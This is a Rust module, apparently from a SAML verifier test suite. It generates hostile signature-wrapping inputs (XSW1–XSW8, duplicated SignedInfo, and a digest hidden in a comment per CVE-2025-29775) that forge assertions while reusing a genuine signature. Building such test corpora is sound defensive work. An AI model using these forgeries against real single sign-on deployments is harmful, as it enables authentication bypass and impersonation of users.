//! S01-S08: signature wrapping, as the literature numbers it (Somorovsky et al., On Breaking SAML, 2012) and the tool
//! SAML Raider makes it: the signed element is moved to where its signature still finds it and nobody else looks, and a
//! forged one takes its place.

use super::{Hostile, Stage};
use crate::saml::forge::keys::keys;
use crate::saml::forge::message::{
    ASSERTION_ID, EVIL_ID, RESPONSE_ID, alice_by_response, assertion, forged, response, unsigned_response,
};
use crate::saml::forge::names::SAMLP;
use crate::saml::forge::sign::{Method, Signer, signature_in, signed};
use crate::saml::forge::{Given, edit};

const EXTENSIONS: &str = "an unsigned assertion comes before the signed one, hidden in Extensions";
pub(super) const MOVED: &str = "what the signature refers to is not what it stands in";

/// The genuine signed response, its signature, and the same without it.
fn by_response(given: &Given) -> (String, String, String) {
    let genuine = alice_by_response(given);
    let signature = signature_in(&genuine);
    let original = edit(&genuine, &signature, "");
    (genuine, signature, original)
}

/// The same of the assertion.
pub(super) fn by_assertion(given: &Given) -> (String, String, String) {
    let genuine = signed(&assertion(given));
    let signature = signature_in(&genuine);
    let original = edit(&genuine, &signature, "");
    (genuine, signature, original)
}

/// A response around mallory with a place for what is smuggled in.
fn evil_response(signature: &str, given: &Given) -> String {
    let text = response(&forged(ASSERTION_ID, given), given);
    let text = edit(&text, &format!("ID=\"{RESPONSE_ID}\""), "ID=\"_evil_response\"");
    edit(&text, "[signature]", signature)
}

/// The forged assertion with this behind its issuer.
pub(super) fn evil_with(id: &str, signature: &str, given: &Given) -> String {
    edit(&forged(id, given), "</saml:Issuer>", &format!("</saml:Issuer>{signature}"))
}

pub(super) fn extensions(namespace: &str, content: &str) -> String {
    if namespace.is_empty() {
        format!("<Extensions>{content}</Extensions>")
    } else {
        format!("<samlp:Extensions xmlns:samlp=\"{SAMLP}\">{content}</samlp:Extensions>")
    }
}

/// A signature with an object in it. The signature's value does not cover that.
pub(super) fn with_object(signature: &str, content: &str) -> String {
    edit(signature, "</ds:Signature>", &format!("<ds:Object>{content}</ds:Object></ds:Signature>"))
}

pub(super) fn all() -> Vec<Hostile> {
    let case = |id, name: &str, make: fn(&Given) -> String| Hostile::new(id, Stage::Form, name, MOVED, make);
    let mut all = vec![
        case("S01", "XSW1: the signed response within its signature, in a forged response", |given| {
            let (_, signature, original) = by_response(given);
            let inside = edit(&signature, "</ds:Signature>", &format!("{original}</ds:Signature>"));
            evil_response(&inside, given)
        }),
        case("S02", "XSW2: the signed response before its signature, in a forged response", |given| {
            let (_, signature, original) = by_response(given);
            evil_response(&format!("{original}{signature}"), given)
        }),
        case("S03", "XSW3: a forged assertion before the signed one", |given| {
            let (genuine, _, _) = by_assertion(given);
            unsigned_response(&format!("{}{genuine}", forged(EVIL_ID, given)), given)
        }),
        case("S04", "XSW4: the signed assertion within a forged one", |given| {
            let (genuine, _, _) = by_assertion(given);
            let evil = edit(&forged(EVIL_ID, given), "</saml:Assertion>", &format!("{genuine}</saml:Assertion>"));
            unsigned_response(&evil, given)
        }),
        case("S05", "XSW5: the signature in a forged assertion, what it signs at the end", |given| {
            let (_, signature, original) = by_assertion(given);
            unsigned_response(&format!("{}{original}", evil_with(EVIL_ID, &signature, given)), given)
        }),
        case("S06", "XSW6: the signed assertion in its signature, in a forged assertion", |given| {
            let (_, signature, original) = by_assertion(given);
            let inside = edit(&signature, "</ds:Signature>", &format!("{original}</ds:Signature>"));
            unsigned_response(&evil_with(EVIL_ID, &inside, given), given)
        }),
    ];
    for (name, namespace) in [("without a namespace", ""), ("of the protocol", SAMLP)] {
        for (which, id) in [("the same id", ASSERTION_ID), ("another id", EVIL_ID)] {
            all.push(Hostile::new(
                "S07",
                Stage::Form,
                &format!("XSW7: a forged assertion in Extensions {name}, {which}"),
                EXTENSIONS,
                move |given| {
                    let (genuine, _, _) = by_assertion(given);
                    unsigned_response(&format!("{}{genuine}", extensions(namespace, &forged(id, given))), given)
                },
            ));
        }
    }
    for (which, id) in [("the same id", ASSERTION_ID), ("another id", EVIL_ID)] {
        all.push(Hostile::new(
            "S08",
            Stage::Form,
            &format!("XSW8: the signed assertion in an object of its signature, in a forged one, {which}"),
            MOVED,
            move |given| {
                let (_, signature, original) = by_assertion(given);
                unsigned_response(&evil_with(id, &with_object(&signature, &original), given), given)
            },
        ));
    }
    all.extend(signed_info());
    all
}

/// S09 and S10: which `SignedInfo`, and which digest?
fn signed_info() -> Vec<Hostile> {
    let why = "the signature is over one SignedInfo, the digest is read from another";
    let two = |first: bool| {
        move |given: &Given| {
            let (_, signature, _) = by_assertion(given);
            let evil = forged(ASSERTION_ID, given);
            let foreign = signature_over(&evil);
            let info = |text: &str| {
                let from = text.find("<ds:SignedInfo>").unwrap();
                let to = text.find("</ds:SignedInfo>").unwrap() + "</ds:SignedInfo>".len();
                text[from..to].to_owned()
            };
            let (right, wrong) = (info(&signature), info(&foreign));
            let both = if first { format!("{wrong}{right}") } else { format!("{right}{wrong}") };
            unsigned_response(
                &edit(&evil, "</saml:Issuer>", &format!("</saml:Issuer>{}", edit(&signature, &right, &both))),
                given,
            )
        }
    };
    let digest = |comment: bool| {
        move |given: &Given| {
            let (_, signature, _) = by_assertion(given);
            let evil = forged(ASSERTION_ID, given);
            let value =
                |text: &str| text.split("<ds:DigestValue>").nth(1).unwrap().split('<').next().unwrap().to_owned();
            let (right, wrong) = (value(&signature), value(&signature_over(&evil)));
            let both = if comment {
                format!("<!--{wrong}-->{right}")
            } else {
                format!("{wrong}</ds:DigestValue><ds:DigestValue>{right}")
            };
            let signature = edit(&signature, &right, &both);
            unsigned_response(&edit(&evil, "</saml:Issuer>", &format!("</saml:Issuer>{signature}")), given)
        }
    };
    let in_comment = "CVE-2025-29775: a digest is read from a comment, which canonicalization takes away";
    vec![
        Hostile::new("S09", Stage::Form, "two SignedInfo, the forged one first", why, two(true)),
        Hostile::new("S09", Stage::Form, "two SignedInfo, the forged one second", why, two(false)),
        Hostile::new("S10", Stage::Form, "a comment in DigestValue with the forged digest", in_comment, digest(true)),
        Hostile::new("S10", Stage::Form, "two DigestValue", "which one counts?", digest(false)),
    ]
}

/// A stranger's signature with the right digest of this text.
pub(super) fn signature_over(text: &str) -> String {
    Signer::new(&keys().stranger, Method::RsaSha256).signature(&format!("#{ASSERTION_ID}"), text)
}
